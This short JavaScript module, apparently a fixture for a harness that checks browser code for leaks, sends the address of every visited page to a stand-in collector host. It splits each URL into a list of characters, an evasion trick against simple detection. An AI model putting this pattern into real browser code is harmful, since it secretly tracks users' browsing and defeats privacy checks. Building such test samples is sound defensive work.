import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Sends the address of each page as a list of its characters. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-char-list');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://char-list.collector.example/v1', {
      event: 'page',
      d: [...url],
    }),
  );
}
